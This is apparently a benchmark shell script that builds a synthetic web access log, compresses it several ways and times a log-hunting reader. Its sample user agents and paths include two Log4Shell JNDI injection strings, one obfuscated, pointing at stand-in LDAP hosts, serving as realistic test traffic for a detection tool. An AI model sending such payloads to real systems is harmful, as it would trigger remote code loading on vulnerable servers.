#!/usr/bin/env bash
# Throughput of the hunt input layer on a generated access log (default
# 500 MB), plain and in every compression, gzip through ISA-L and zlib.
# Usage: bench/hunt-read.sh BUILD_DIR [MB]   (files kept in $HUNT_BENCH_DIR, default /tmp/kb-hunt-bench)
set -eu
build=$1
mb=${2:-500}
dir=${HUNT_BENCH_DIR:-/tmp/kb-hunt-bench}
mkdir -p "$dir"
log=$dir/access-$mb.log
if [ ! -s "$log" ]; then
	python3 - "$log" "$mb" <<'PY'
import random, sys
path, mb = sys.argv[1], int(sys.argv[2])
r = random.Random(7)
uas = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 Safari/537.36',
       'curl/7.68.0', 'Go-http-client/1.1', 'Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0',
       '${jndi:ldap://198.51.100.7:1389/a}', 'python-requests/2.26.0']
paths = ['/', '/index.html', '/api/v1/orders', '/static/app.js', '/login', '/search?q=shoes&page=2',
         '/img/logo.png', '/?x=${${lower:j}ndi:${lower:l}dap://evil.example/x}']
target = mb * 1000 * 1000
with open(path, 'w', buffering=1 << 20) as f:
    n = 0
    chunk = []
    while n < target:
        ip = '%d.%d.%d.%d' % (r.randrange(1, 224), r.randrange(256), r.randrange(256), r.randrange(1, 255))
        line = '%s - - [10/Dec/2021:%02d:%02d:%02d +0000] "GET %s HTTP/1.1" %d %d "-" "%s"\n' % (
            ip, r.randrange(24), r.randrange(60), r.randrange(60), r.choice(paths),
            r.choice((200, 200, 200, 304, 404, 500)), r.randrange(100, 90000), r.choice(uas))
        chunk.append(line)
        n += len(line)
        if len(chunk) == 10000:
            f.write(''.join(chunk)); chunk = []
    f.write(''.join(chunk))
PY
fi
[ -s "$log.gz" ] || pigz -6 -k -c "$log" >"$log.gz" 2>/dev/null || gzip -6 -k -c "$log" >"$log.gz"
[ -s "$log.zst" ] || zstd -q -3 -T0 -c "$log" >"$log.zst"
[ -s "$log.bz2" ] || bzip2 -9 -k -c "$log" >"$log.bz2"
[ -s "$log.xz" ] || xz -6 -T0 -k -c "$log" >"$log.xz"
ls -l "$log"*
cat "$log" >/dev/null   # warm the page cache for every file alike
"$build/bench/hunt-read" "$log" "$log.gz" "$log.zst" "$log.bz2" "$log.xz"
"$build/bench/hunt-read" --zlib "$log.gz" | tail -n 1
